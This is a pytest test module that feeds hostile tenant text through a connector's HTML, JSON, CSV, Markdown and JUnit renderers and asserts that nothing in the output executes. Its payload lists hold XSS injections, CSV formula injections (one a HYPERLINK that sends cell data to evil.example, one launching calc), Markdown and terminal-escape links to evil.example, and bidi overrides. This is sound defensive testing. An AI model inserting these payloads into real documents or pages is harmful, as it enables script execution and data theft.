"""Hostile text from the portal or the identity provider, through every renderer.

One report carries, in every free-text field a tenant controls (addresses, names, messages,
details, exception owners and reasons, collection errors, provider errors and warnings, spot-check
notes), HTML/JS break-outs, CSV formulas, Markdown injection, terminal escapes, characters XML
cannot hold, lone surrogates, direction overrides and a very long value. Each test is one output
check: parse what the renderer wrote as its consumer would, and assert nothing in it acts.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from connector.models import (
    DEFAULT_SEVERITY,
    Collection,
    CollectionError,
    CollectionErrorKind,
    ExceptionRule,
    Finding,
    IdentitySource,
    InconclusiveReason,
    MonitoredUser,
    Outcome,
    Policy,
    ReasonDetail,
    Report,
    RunInfo,
    SpotCheckResult,
)
from connector.report import (
    render_action_plan,
    render_html,
    render_json,
    render_junit,
    render_markdown,
)
from connector.report.json_out import load_report

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
PWN = "window.__pwned=1"
HTML = [f"<script>{PWN}</script>", f'"><img src=x onerror="{PWN}">', f"'><svg onload={PWN}>",
        f"</textarea><script>{PWN}</script>", f"</script><script>{PWN}</script>",
        f"<a href=\"javascript:{PWN}\">x</a>", f"<iframe srcdoc='<script>{PWN}</script>'>",
        "<!--", "<style>*{display:none}</style>", "{{ 7*7 }}"]
CSV = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
       "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1"]
MARKDOWN = ["a | b | c", "two\nlines\n\n| x | y |", "`code` ``", "[link](javascript:alert(1))",
            "![img](http://evil.example/t.png)", "<b>bold</b>", "# heading", "***", "<http://x>"]
TERMINAL = ["\x1b[2J\x1b[31mred", "over\rwrite", "bell\x07", "\x1b]8;;http://evil.example\x07"
            "link\x1b]8;;\x07", "\x9b31m"]
XML_BAD = ["nul\x00", "vt\x0b", "ff\x0c", "lone\ud800surrogate", "\ufffe", "\x1f"]
RTL = ["moc.elpmaxe@\u202eevil", "\u2066isolate\u2069", "\u200fmark"]
LONG = "L" * 50_000
ALL = [*HTML, *CSV, *MARKDOWN, *TERMINAL, *XML_BAD, *RTL, LONG]
CONTROLS = [chr(c) for c in (*range(0, 9), *range(11, 32), 0x7f, *range(0x80, 0xa0))]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
        "\u200e", "\u200f", "\u061c"]


def _hostile(i: int) -> str:
    return ALL[i % len(ALL)]


def _finding(i: int, outcome: Outcome) -> Finding:
    exception = ExceptionRule(email=f"x{i}@acme.example", owner=_hostile(i + 1),
                              reason=_hostile(i + 2), expires=NOW + timedelta(days=3))
    return Finding(
        key=f"{outcome}:user_monitoring:{i}", outcome=outcome, subject=_hostile(i),
        surface="user_monitoring" if i % 2 else "portal_users",
        severity=DEFAULT_SEVERITY[outcome], match_rule="none", message=_hostile(i + 3),
        details={_hostile(i + 4)[:40]: _hostile(i + 5)}, open_since=NOW - timedelta(days=1),
        changed_at=NOW - timedelta(days=2), exception=exception if i % 3 == 0 else None,
    )


def hostile_report() -> Report:
    """A drift report whose every tenant-controlled text is hostile (each payload at least once
    as a subject, a message and a detail)."""
    outcomes = [o for o in Outcome if o not in (Outcome.IN_SYNC, Outcome.EXCEPTED)]
    findings = tuple(_finding(i, outcomes[i % len(outcomes)]) for i in range(len(ALL)))
    errors = tuple(CollectionError(kind=CollectionErrorKind.COUNT_MISMATCH, message=m, fatal=False)
                   for m in ALL[:12])
    user = MonitoredUser(address=_hostile(0), sync_state="Live", status="Good connection",
                         addin_version=_hostile(1))
    return Report(
        run=RunInfo(run_id="r-hostile", tool_version="0.1.0", tenant="acme",
                    portal_host="acme.example", run_type="scheduled", started_at=NOW),
        verdict="drift", findings=findings,
        counts={str(f.outcome): 1 for f in findings},
        collections=(Collection(surface="user_monitoring", source="dom", complete=True,
                                expected_count=1, read_count=1, errors=errors),),
        identity_source=IdentitySource(kind="okta", location=_hostile(3), complete=True,
                                       errors=tuple(ALL[12:20]), warnings=tuple(ALL[20:28])),
        spot_checks=tuple(SpotCheckResult(email=_hostile(i), surface="user_monitoring",
                                          found=True, conclusive=True, monitored_user=user,
                                          message=_hostile(i + 1)) for i in range(0, len(ALL), 4)),
        policy=Policy(), evaluated_at=NOW,
    )


def inconclusive_hostile() -> Report:
    """The hostile report made inconclusive, with hostile reason messages."""
    reasons = tuple(ReasonDetail(reason=InconclusiveReason.INCOMPLETE_READ, message=m)
                    for m in ALL[::3])
    return hostile_report().model_copy(update={"verdict": "inconclusive", "reasons": reasons})


@pytest.fixture(scope="module")
def report() -> Report:
    """The hostile drift report."""
    return hostile_report()


# --- HTML ---------------------------------------------------------------------------------------


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text inside <script> elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False if tag == "script" else self._in_script

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1] += data
        else:
            self.text.append(data)


def _parsed(report: Report) -> Elements:
    parser = Elements()
    parser.feed(render_html(report))
    parser.close()
    return parser


@pytest.fixture(scope="module")
def html(report: Report) -> Elements:
    """The parsed report.html of the hostile report (inconclusive one: its reasons too)."""
    parser = _parsed(report)
    extra = _parsed(inconclusive_hostile())
    parser.tags += extra.tags
    parser.scripts += extra.scripts
    parser.text += extra.text
    return parser


def test_html_has_only_its_own_script(html: Elements) -> None:
    """The only script elements are the page's own (one per page), none holding a payload."""
    assert len(html.scripts) == 2 and not any(PWN in s for s in html.scripts)


def test_html_has_no_injected_event_handler(html: Elements) -> None:
    """No element carries an on* attribute (onerror, onload …)."""
    assert [(t, a) for t, a in html.tags if any(k.startswith("on") for k in a)] == []


def test_html_has_no_injected_elements(html: Elements) -> None:
    """No iframe, textarea, style-in-body, image or SVG element came from report values (the
    page has one SVG at most: the trend chart, absent here)."""
    tags = [t for t, _ in html.tags]
    assert not {"iframe", "textarea", "img", "svg", "object", "embed", "base"} & set(tags)
    assert tags.count("style") == 2  # the page's own stylesheet, once per page


def test_html_has_no_javascript_urls(html: Elements) -> None:
    """No href/src/action attribute is a javascript: URL."""
    urls = [v for _, a in html.tags for k, v in a.items() if k in ("href", "src", "action")]
    assert not any((v or "").strip().lower().startswith("javascript:") for v in urls)


def test_html_shows_the_payloads_as_text(html: Elements) -> None:
    """The payloads are shown, as text, to the reader (escaped, not dropped)."""
    text = "".join(html.text)
    assert f"<script>{PWN}</script>" in text and '=HYPERLINK("http://evil.example' in text


def test_html_neutralises_controls_and_direction_overrides(report: Report) -> None:
    """No control character, direction override or lone surrogate reaches the page raw (they
    are shown as visible escapes); the page encodes as UTF-8."""
    page = render_html(report) + render_html(inconclusive_hostile())
    assert [c for c in CONTROLS + BIDI if c in page.replace("\n", "").replace("\t", "")] == []
    assert "\\u202e" in page and "\\x1b" in page
    page.encode("utf-8")


# --- report.json ---------------------------------------------------------------------------------


def test_json_round_trips_hostile_values(report: Report, tmp_path: Any) -> None:
    """report.json reloads to the same values (control and direction characters kept, written as
    JSON escapes) and re-renders to the same bytes; only a lone surrogate, which neither UTF-8
    nor a JSON parser accepts, reads back as U+FFFD."""
    text = render_json(report)
    path = tmp_path / "report.json"
    path.write_bytes(text.encode("utf-8"))
    loaded = load_report(path)

    def fixed(value: str) -> str:
        return re.sub("[\ud800-\udfff]", "\ufffd", value)

    assert [(f.subject, f.message) for f in loaded.findings] == [
        (fixed(f.subject), fixed(f.message)) for f in report.findings]
    assert render_json(loaded) == text


def test_json_has_no_raw_control_characters(report: Report) -> None:
    """report.json holds control and direction characters only as JSON escapes (a `cat` of it
    on a terminal runs nothing)."""
    text = render_json(report)
    assert [c for c in CONTROLS + BIDI if c in text.replace("\n", "")] == []


# --- action-plan.csv -----------------------------------------------------------------------------


def _csv_rows(report: Report) -> list[list[str]]:
    return list(csv.reader(io.StringIO(render_action_plan(report), newline="")))


def test_csv_cells_never_start_a_formula(report: Report) -> None:
    """No cell starts with = + - @ tab or CR, even after leading spaces or a line break."""
    cells = [c for row in _csv_rows(report)[1:] for c in row]
    starts = ("=", "+", "-", "@", "\t", "\r", "\n")
    assert [c for c in cells if c.lstrip(" \n\r\t").startswith(starts[:4]) and
            not c.startswith("'")] == []
    assert [c for c in cells if c.startswith(starts)] == []


def test_csv_has_one_row_per_finding_that_needs_action(report: Report) -> None:
    """Line breaks inside values stay inside their cell: the row count is the findings count."""
    rows = _csv_rows(report)
    needing = [f for f in report.findings if f.outcome not in ("in_sync", "pending", "excepted")]
    assert len(rows) == 1 + len(needing) and {len(r) for r in rows} == {len(rows[0])}


def test_csv_has_no_controls_or_direction_overrides(report: Report) -> None:
    """Control characters (other than the CSV's own line ends) and direction overrides are
    shown as escapes in the CSV; it encodes as UTF-8."""
    text = render_action_plan(report)
    assert [c for c in CONTROLS + BIDI if c in text.replace("\r\n", "")] == []
    text.encode("utf-8")


# --- summary.md ----------------------------------------------------------------------------------


def _md_html(report: Report) -> Elements:
    parser = Elements()
    parser.feed(MarkdownIt("commonmark").enable("table").render(render_markdown(report)))
    return parser


@pytest.mark.parametrize("make", [hostile_report, inconclusive_hostile])
def test_markdown_renders_no_links_images_or_html(make: Any) -> None:
    """Rendered as GitHub-flavoured Markdown, the summary has no link, image, raw HTML or
    heading that a value put there."""
    parsed = _md_html(make())
    tags = [t for t, _ in parsed.tags]
    assert not {"a", "img", "script", "iframe", "b", "svg"} & set(tags)
    assert tags.count("h2") == 1 and "h1" not in tags


def test_markdown_table_rows_keep_their_cells(report: Report) -> None:
    """Every row of the findings table has exactly the header's cells (no pipe or line break
    in a value adds a cell or a row)."""
    rendered = MarkdownIt("commonmark").enable("table").render(render_markdown(report))
    rows = rendered.split("<table>")[-1].split("<tr>")[1:]  # the last table: the findings
    assert rows and {row.count("<td") + row.count("<th") for row in rows} == {5}
    assert len([r for r in rows if "<td" in r]) == 10  # the top ten findings


def test_markdown_has_no_controls_or_direction_overrides(report: Report) -> None:
    """No control or direction character reaches the summary raw."""
    text = render_markdown(report) + render_markdown(inconclusive_hostile())
    assert [c for c in CONTROLS + BIDI if c in text.replace("\n", "")] == []


# --- junit.xml -----------------------------------------------------------------------------------


@pytest.mark.parametrize("make", [hostile_report, inconclusive_hostile])
def test_junit_is_well_formed_xml(make: Any) -> None:
    """junit.xml parses (XML 1.0 forbids NUL, most C0 controls, U+FFFE and lone surrogates),
    and encodes as UTF-8."""
    text = render_junit(make())
    root = ET.fromstring(text.encode("utf-8"))
    assert root.tag == "testsuites" and len(root.findall("testsuite")) >= 2


def test_junit_keeps_one_case_per_finding_with_readable_names(report: Report) -> None:
    """Each finding is one test case; its name shows the payload's text (escaped as XML)."""
    root = ET.fromstring(render_junit(report).encode("utf-8"))
    cases = [c for s in root.findall("testsuite") if s.get("name") != "run"
             for c in s.findall("testcase")]
    names = [c.get("name") or "" for c in cases]
    assert len(cases) == len(report.findings) and any(f"<script>{PWN}" in n for n in names)


def test_junit_has_no_controls_or_direction_overrides(report: Report) -> None:
    """No control or direction character survives into junit.xml (CI logs print it)."""
    text = render_junit(report)
    assert [c for c in CONTROLS + BIDI if c in text.replace("\n", "")] == []
